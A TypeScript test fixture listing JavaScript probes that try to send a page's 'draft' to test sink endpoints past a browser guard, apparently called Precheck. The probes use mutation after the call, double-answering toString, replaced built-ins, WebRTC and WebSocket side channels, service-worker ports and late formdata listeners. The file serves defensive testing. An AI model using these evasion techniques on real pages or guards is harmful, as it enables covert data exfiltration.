/**
 * The cases of gate-read-once (the eighth and ninth probes; test/e2e/gate-read-once.e2e.test.ts,
 * Chromium; and test/e2e-firefox/gate-read-once.e2e.test.ts): what a hook judged and the browser read
 * again, what was not read at all, built-ins replaced after load, and entry lists changed after the
 * judge. Page script (probe-page.ts' pageScript names) over a browser's probe harness (probe-harness.ts).
 */

/** Read once: the page changes what it handed in after the call, or answers a second reader otherwise; the clean version must arrive. */
export const READ_ONCE: [label: string, code: string][] = [
  ["fetch: the init's body changed after the call", `const init = { method: 'POST', body: 'hello' }; const p = fetch(sink('init-body'), init); init.body = draft; await p;`],
  ['fetch: a body getter that answers the browser otherwise', `let n = 0; await fetch(sink('body-getter'), { method: 'POST', get body() { return n++ ? draft : 'hello'; } });`],
  ['fetch: a URL object whose search is changed after the call', `const u = new URL(sink('url')); u.search = '?q=1'; const p = fetch(u); u.search = '?c=' + encodeURIComponent(draft); await p;`],
  ['fetch: a FormData changed after the call', `const fd = new FormData(); fd.append('content', 'hello'); const p = fetch(sink('formdata'), { method: 'POST', body: fd }); fd.set('content', draft); await p;`],
  ['fetch: a URLSearchParams changed after the call', `const q = new URLSearchParams('content=hello'); const p = fetch(sink('usp'), { method: 'POST', body: q }); q.set('content', draft); await p;`],
  ['fetch: Headers changed after the call (raw)', `const h = new Headers({ 'x-a': 'hello' }); const p = fetch(RAW + '/headers', { method: 'POST', body: 'hello', headers: h }); h.set('x-a', ID); await p;`],
  ['fetch: a URL whose toString answers twice', `await fetch(flip(sink('flip') + '?q=1', sink('flip') + '?c=' + encodeURIComponent(draft)));`],
  ['XHR: bytes changed after send', `const b = new TextEncoder().encode('hello '.repeat(8)); const x = new XMLHttpRequest(); x.open('POST', sink('xhr-bytes')); const done = new Promise((r) => x.onloadend = r); x.send(b); b.set(new TextEncoder().encode(ID)); await done;`],
  ['XHR: a URL and a header whose toString answers twice (raw)', `const x = new XMLHttpRequest(); x.open('GET', flip(RAW + '/xhr?q=1', RAW + '/xhr?c=' + ID)); x.setRequestHeader('x-a', flip('hello', ID)); const done = new Promise((r) => x.onloadend = r); x.send(); await done;`],
  ['sendBeacon: a URL whose toString answers twice', `navigator.sendBeacon(flip(sink('beacon') + '?q=1', sink('beacon') + '?c=' + ID), 'hello');`],
  ["an img's src and setAttribute with a toString that answers twice", `new Image().src = flip(sink('img') + '?q=1', sink('img') + '?c=' + ID); const i = document.createElement('img'); i.setAttribute('src', flip(sink('img2') + '?q=1', sink('img2') + '?c=' + ID)); document.body.append(i);`],
  ['Cache.add of a Request: the Request itself is fetched, not its string', `const cache = await caches.open('ro'); await cache.add(new Request(sink('cache-ok') + '?q=1'));`],
  ["a worker's fetch: a body getter that answers the browser otherwise", `return inWorker("let n = 0; await fetch(sink('w-body'), { method: 'POST', get body() { return n++ ? draft : 'hello'; } });");`],
  ["a worker's XHR: bytes changed after send", `return inWorker("const b = new TextEncoder().encode('hello '.repeat(8)); const x = new XMLHttpRequest(); x.open('POST', sink('w-xhr')); const done = new Promise((r) => (x.onloadend = r)); x.send(b); b.set(new TextEncoder().encode(ID)); await done;");`],
  [
    'a service worker: a message whose getter answers the browser\'s structured clone otherwise (the worker posts it)',
    `await navigator.serviceWorker.register('/routes/service-worker.js'); const sw = (await navigator.serviceWorker.ready).active;
     const reply = new Promise((r) => navigator.serviceWorker.addEventListener('message', (e) => r(JSON.stringify(e.data)), { once: true }));
     let n = 0; sw.postMessage({ url: sink('sw-getter'), get body() { return n++ ? 'content=' + encodeURIComponent(draft) : 'content=hello'; } });
     return await reply;`,
  ],
  [
    "form.submit() to a new window: the page's formdata listener adds the draft to the browser's own build only",
    `const f = document.createElement('form'); f.method = 'post'; f.action = sink('submit-blank'); f.target = '_blank'; f.innerHTML = '<input name=title value=hello>';
     let n = 0; f.addEventListener('formdata', (e) => { if (n++) e.formData.append('content', draft); }); document.body.append(f); f.submit();`,
  ],
  [
    "form.submit() into a frame: the page's formdata listener adds the draft to the browser's own build only",
    `const fr = document.createElement('iframe'); fr.name = 'into-frame'; document.body.append(fr); const f = document.createElement('form'); f.method = 'post'; f.action = sink('submit-frame'); f.target = 'into-frame'; f.innerHTML = '<input name=title value=hello>';
     let n = 0; f.addEventListener('formdata', (e) => { if (n++) e.formData.append('content', draft); }); document.body.append(f); f.submit();`,
  ],
  ["an element's style with a toString that answers twice", `const d = document.createElement('div'); document.body.append(d); d.style.cssText = flip('color:red;background-image:url(' + sink('css') + '?q=1)', 'background-image:url(' + sink('css') + '?c=' + ID + ')');`],
];

/** Not read before: delivered without Precheck, refused with it (the page is told 预检). */
export const NOT_READ: [label: string, code: string][] = [
  ['WebSocket subprotocol', `new WebSocket(RAW.replace('http', 'ws') + '/ws', ['p-' + ID]);`],
  ['WebSocketStream subprotocols', `new WebSocketStream(RAW.replace('http', 'ws') + '/wss', { protocols: ['p-' + ID] });`],
  ['<tr background>', `const t = document.createElement('table'); const tr = t.insertRow(); tr.setAttribute('background', sink('tr') + '?c=' + encodeURIComponent(draft)); tr.insertCell().textContent = 'x'; document.body.append(t);`],
  ["an iframe's csp attribute (Sec-Required-CSP)", `const f = document.createElement('iframe'); f.setAttribute('csp', "img-src 'self' http://p." + ID + '.example'); f.src = RAW + '/frame'; document.body.append(f);`],
  ['a multipart filename', `const fd = new FormData(); fd.append('file', new Blob(['hello']), ID + '.txt'); await fetch(RAW + '/upload', { method: 'POST', body: fd });`],
  ["a Blob body's type (Content-Type)", `await fetch(RAW + '/blob-type', { method: 'POST', body: new Blob(['hello'], { type: 'text/plain;x=' + ID }) });`],
  ['keyframes given as a Set', `const d = document.createElement('div'); d.style.cssText = 'width:9px;height:9px'; document.body.append(d); d.animate(new Set([{ backgroundImage: 'url(' + sink('kf') + '?c=' + encodeURIComponent(draft) + ')' }, { backgroundImage: 'none' }]), 3000);`],
  ["a custom property's string used by image-set(var())", `const d = document.createElement('div'); d.style.cssText = 'width:9px;height:9px'; document.body.append(d); d.style.setProperty('--s', JSON.stringify(sink('var') + '?c=' + encodeURIComponent(draft))); d.style.setProperty('background-image', 'image-set(var(--s) 1x)');`],
  ["a worker's fetch referrer (the Referer header)", `return inWorker("await fetch(sink('w-referrer'), { referrer: sink('w-referrer') + '?c=' + ID });");`],
  ["a worker's Request with a referrer, fetched", `return inWorker("await fetch(new Request(sink('w-req-referrer'), { referrer: sink('w-req-referrer') + '?c=' + ID }));");`],
  [
    'WebRTC: ICE credentials in a remote description the page writes (STUN checks)',
    `const pc = new RTCPeerConnection(); pc.createDataChannel('chat'); await pc.setLocalDescription(await pc.createOffer());
     const fp = Array.from({ length: 32 }, (_, i) => (i + 16).toString(16).toUpperCase().padStart(2, '0')).join(':');
     const sdp = ['v=0', 'o=- 1 2 IN IP4 127.0.0.1', 's=-', 't=0 0', 'a=group:BUNDLE 0', 'm=application 9 UDP/DTLS/SCTP webrtc-datachannel', 'c=IN IP4 0.0.0.0',
       'a=ice-ufrag:' + ID, 'a=ice-pwd:abcdefghijklmnopqrstuvwx', 'a=fingerprint:sha-256 ' + fp, 'a=setup:active', 'a=mid:0', 'a=sctp-port:5000', ''].join('\\r\\n');
     await pc.setRemoteDescription({ type: 'answer', sdp });
     await pc.addIceCandidate({ candidate: 'candidate:1 1 udp 2122260223 127.0.0.1 ' + UDP_PORT + ' typ host', sdpMid: '0', sdpMLineIndex: 0 });
     await new Promise((r) => setTimeout(r, 1500)); pc.close();`,
  ],
];

/** Aimed at the hooks: without Precheck the page's own call sends the clean version, which must arrive with Precheck too. */
export const AT_THE_HOOKS: [label: string, code: string][] = [
  [
    'Reflect.apply replaced: the original handed other arguments than were judged',
    `const ra = Reflect.apply; Reflect.apply = function (f, t, a) { if (a && a[0] === 'src') a = ['src', sink('ra') + '?c=' + ID]; return ra(f, t, a); };
     try { const i = document.createElement('img'); i.setAttribute('src', sink('ra') + '?q=1'); document.body.append(i); } finally { Reflect.apply = ra; }`,
  ],
  [
    'Function.prototype.call replaced: a setter handed another value',
    `const c = Function.prototype.call; const ap = Function.prototype.apply;
     Function.prototype.call = function (t, ...a) { if (typeof a[0] === 'string' && a[0].startsWith(sink('fc'))) a[0] = sink('fc') + '?c=' + ID; return ap.apply(this, [t, a]); };
     try { new Image().src = sink('fc') + '?q=1'; } finally { Function.prototype.call = c; }`,
  ],
  ["an object tagged 'TrustedScriptURL' whose string answers twice", `const i = document.createElement('img'); i.setAttribute('src', { [Symbol.toStringTag]: 'TrustedScriptURL', ...flip(sink('tag-trusted') + '?q=1', sink('tag-trusted') + '?c=' + ID) }); document.body.append(i);`],
];

/** Without Precheck these deliver the ID (the control host). The first two: headers a worker sets were not read (a refused XHR fails like a dropped connection, silently). */
export const BUILT_INS: [label: string, code: string][] = [
  ["a worker's fetch header (raw)", `return inWorker("await fetch(RAW + '/w-fetch-header', { headers: { 'x-a': ID } });");`],
  ["a worker's XHR header (raw)", `return inWorker("const x = new XMLHttpRequest(); x.open('GET', RAW + '/w-xhr-header'); x.setRequestHeader('x-a', ID); const done = new Promise((r) => (x.onloadend = r)); x.send(); await done;");`],
  [
    "WeakMap.prototype.get made to find nothing: an XHR looks never opened",
    `const g0 = WeakMap.prototype.get; WeakMap.prototype.get = function () { return undefined; };
     const x = new XMLHttpRequest(); const done = new Promise((r) => (x.onloadend = r));
     try { x.open('POST', sink('weakmap')); x.send('content=' + encodeURIComponent(draft)); } finally { WeakMap.prototype.get = g0; } await done;`,
  ],
  [
    "a worker's WeakMap.prototype.get made to find nothing",
    `return inWorker("const g0 = WeakMap.prototype.get; WeakMap.prototype.get = function () { return undefined; }; const x = new XMLHttpRequest(); const done = new Promise((r) => (x.onloadend = r)); x.open('POST', sink('w-weakmap')); x.send('content=' + encodeURIComponent(draft)); WeakMap.prototype.get = g0; await done;");`,
  ],
  ["Blob.prototype's size made to say 0", `const d = Object.getOwnPropertyDescriptor(Blob.prototype, 'size'); Object.defineProperty(Blob.prototype, 'size', { get: () => 0, configurable: true }); try { await fetch(sink('size'), { method: 'POST', body: new Blob([draft]) }); } finally { Object.defineProperty(Blob.prototype, 'size', d); }`],
  ["one Blob's own size of 0", `const b = new Blob([draft]); Object.defineProperty(b, 'size', { value: 0 }); await fetch(sink('own-size'), { method: 'POST', body: b });`],
  ["an object tagged 'Blob' of size 0 whose string is the draft", `await fetch(sink('tag-blob'), { method: 'POST', body: { [Symbol.toStringTag]: 'Blob', size: 0, toString: () => draft } });`],
  ["a Request with its own url and clone", `const r = new Request(sink('req') + '?c=' + encodeURIComponent(draft)); Object.defineProperty(r, 'url', { value: sink('req') + '?q=1' }); Object.defineProperty(r, 'clone', { value: () => r }); await fetch(r);`],
  ["Cache.add of a Request with its own url", `const r = new Request(sink('cache') + '?c=' + ID); Object.defineProperty(r, 'url', { value: sink('cache') + '?q=1' }); const cache = await caches.open('probe'); await cache.add(r);`],
  ["setAttributeNode of an Attr with its own value", `const a = document.createAttribute('src'); a.value = sink('attr') + '?c=' + ID; Object.defineProperty(a, 'value', { get: () => sink('attr') + '?q=1' }); const i = document.createElement('img'); i.setAttributeNode(a); document.body.append(i);`],
  ["an img whose own tagName says DIV", `const i = document.createElement('img'); Object.defineProperty(i, 'tagName', { value: 'DIV' }); i.setAttribute('src', sink('tagname') + '?c=' + ID); document.body.append(i);`],
  [
    'String replaced: an XHR URL judged as another',
    `const S = String; window.String = function (v) { return typeof v === 'string' && v.includes('/sink/ro/str') ? sink('str') + '?q=1' : S(v); };
     try { const x = new XMLHttpRequest(); x.open('GET', sink('str') + '?c=' + ID); const done = new Promise((r) => (x.onloadend = r)); x.send(); await done; } finally { window.String = S; }`,
  ],
  [
    'URL replaced: a fetch URL judged as another',
    `const U = URL; window.URL = class extends U { get href() { return super.href.replace(/[?]c=.*/, '?q=1'); } };
     try { await fetch(sink('url-class') + '?c=' + ID); } finally { window.URL = U; }`,
  ],
  [
    "Headers.prototype's forEach emptied (raw)",
    `const fe = Headers.prototype.forEach; Headers.prototype.forEach = function () {}; try { await fetch(RAW + '/hdr-foreach', { headers: { 'x-a': ID } }); } finally { Headers.prototype.forEach = fe; }`,
  ],
];

/** A service worker handed a port and a buffer with a clean message: what the worker answers, whether the buffer moved, and what the page's other end does with the draft. */
export const SW_PORT_CODE = `await navigator.serviceWorker.register('/routes/service-worker.js'); const sw = (await navigator.serviceWorker.ready).active;
      const reply = new Promise((r) => navigator.serviceWorker.addEventListener('message', (e) => r(e.data.ok), { once: true }));
      const mc = new MessageChannel(); const bytes = new Uint8Array(8).buffer;
      sw.postMessage({ url: sink('sw-port'), body: 'content=hello', port: mc.port2, bytes }, [mc.port2, bytes]);
      const moved = bytes.byteLength === 0 ? 'moved' : 'copied';
      const sent = await reply;
      try { mc.port1.postMessage('content=' + encodeURIComponent(draft)); return [sent, moved, 'sent'].join(' '); } catch (e) { return [sent, moved, e.name].join(' '); }`;

const SW_READY = `await navigator.serviceWorker.register('/routes/service-worker.js'); const sw = (await navigator.serviceWorker.ready).active; const pause = (ms) => new Promise((r) => setTimeout(r, ms));`;

/**
 * A port whose other end the guard did not make, handed to the service worker (which POSTs what comes
 * down a port it is given, as { url, body }); then the page's end sends the draft down it. Found
 * 2026-12-06 (the thirteenth probe's note had it open, not demonstrated: the demo's worker listened on
 * no port then): ports are followed to a worker only from the page's own MessageChannel.
 */
export const SW_UNTRACKED_PORTS: [label: string, code: string][] = [
  [
    "a fresh frame's MessageChannel: one end to the service worker, the draft down the other",
    `${SW_READY} const f = document.createElement('iframe'); document.body.append(f); const mc = new f.contentWindow.MessageChannel();
     sw.postMessage({ port: mc.port2 }, [mc.port2]); await pause(300);
     mc.port1.postMessage({ url: sink('sw-frame-port'), body: 'content=' + encodeURIComponent(draft) }); await pause(800);`,
  ],
  [
    "a port the frame hands the page (the frame's own channel), passed on to the service worker",
    `${SW_READY} const f = document.createElement('iframe'); document.body.append(f); const mc = new f.contentWindow.MessageChannel();
     const got = new Promise((r) => (window.onmessage = (e) => r(e.ports[0]))); window.postMessage('port', '*', [mc.port2]); const p = await got;
     sw.postMessage({ port: p }, [p]); await pause(300);
     mc.port1.postMessage({ url: sink('sw-passed-port'), body: 'content=' + encodeURIComponent(draft) }); await pause(800);`,
  ],
];

/** The page's own MessageChannel (as Workbox talks to its worker): a clean message down the port still arrives. */
export const SW_OWN_PORT_CLEAN = `${SW_READY} const mc = new MessageChannel(); sw.postMessage({ port: mc.port2 }, [mc.port2]); await pause(300);
     mc.port1.postMessage({ url: sink('sw-own-port'), body: 'content=hello' }); await pause(800);`;

/** A form with a clean field aimed at a fresh frame named late-<name>, then `how`. */
const frameForm = (name: string, how: string) =>
  `const fr = document.createElement('iframe'); fr.name = 'late-${name}'; document.body.append(fr);
   const f = document.createElement('form'); f.method = 'post'; f.action = sink('late-${name}'); f.target = 'late-${name}'; f.innerHTML = '<input name=title value=hello>';
   document.body.append(f); ${how}`;
export const LATE_LISTENERS: [label: string, code: string][] = [
  [
    "requestSubmit() into a frame: the form's own listener adds the draft and stops the event",
    frameForm('stop', `f.addEventListener('formdata', (e) => { e.formData.append('content', draft); e.stopImmediatePropagation(); }); f.requestSubmit();`),
  ],
  [
    "requestSubmit() to a new window: the form's own listener sets a field to the draft and stops the event",
    `const f = document.createElement('form'); f.method = 'post'; f.action = sink('late-blank'); f.target = '_blank'; f.innerHTML = '<input name=title value=hello>';
     document.body.append(f); f.addEventListener('formdata', (e) => { e.formData.set('title', draft); e.stopImmediatePropagation(); }); f.requestSubmit();`,
  ],
  [
    "requestSubmit() into a frame: the draft added through another frame's FormData.prototype.append",
    frameForm('realm', `const other = document.createElement('iframe'); document.body.append(other); const append = other.contentWindow.FormData.prototype.append;
     f.addEventListener('formdata', (e) => { append.call(e.formData, 'content', draft); e.stopImmediatePropagation(); }); f.requestSubmit();`),
  ],
  [
    "requestSubmit() into a frame: the draft added through the FormData.prototype.append of a loaded frame with a guard of its own",
    frameForm('loaded', `const other = document.createElement('iframe'); other.src = location.origin + '/routes/name.html'; const loaded = new Promise((r) => (other.onload = r)); document.body.append(other); await loaded;
     const append = other.contentWindow.FormData.prototype.append;
     f.addEventListener('formdata', (e) => { append.call(e.formData, 'content', draft); e.stopImmediatePropagation(); }); f.requestSubmit();`),
  ],
  [
    'requestSubmit() to a new window from a fresh frame the page reached first: the form\'s own listener adds the draft and stops the event',
    `const fr = document.createElement('iframe'); document.body.append(fr); const doc = fr.contentDocument;
     const f = doc.createElement('form'); f.method = 'post'; f.action = sink('late-fresh'); f.target = '_blank'; f.innerHTML = '<input name=title value=hello>';
     doc.body.append(f); f.addEventListener('formdata', (e) => { e.formData.append('content', draft); e.stopImmediatePropagation(); }); f.requestSubmit();`,
  ],
];
